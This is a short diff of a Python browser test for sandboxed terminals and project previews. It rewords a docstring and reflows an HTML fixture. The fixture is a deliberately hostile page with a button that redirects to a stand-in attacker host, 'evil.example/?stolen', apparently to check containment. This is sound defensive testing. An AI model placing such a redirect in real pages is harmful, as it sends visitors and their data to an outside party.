@@ -1,4 +1,4 @@
-"""Terminals in a variation's sandbox and previews of what its project serves, in a browser. Both are hostile ground."""
+"""Terminals and previews of a variation's sandbox in a browser, with hostile output."""
 
 import asyncio
 import json
@@ -247,7 +247,8 @@ async def background(screen: Locator) -> str:
     )
 
 
-SERVED = """<!doctype html><title>The project's page</title><h1>It works</h1><p id="told"></p>
+SERVED = """<!doctype html><title>The project's page</title><h1>It works</h1>
+<p id="told"></p>
 <button onclick="location = 'http://evil.example/?stolen'">Leave</button>
 <script>
   const told = text => { document.getElementById("told").textContent += text + "; "; };
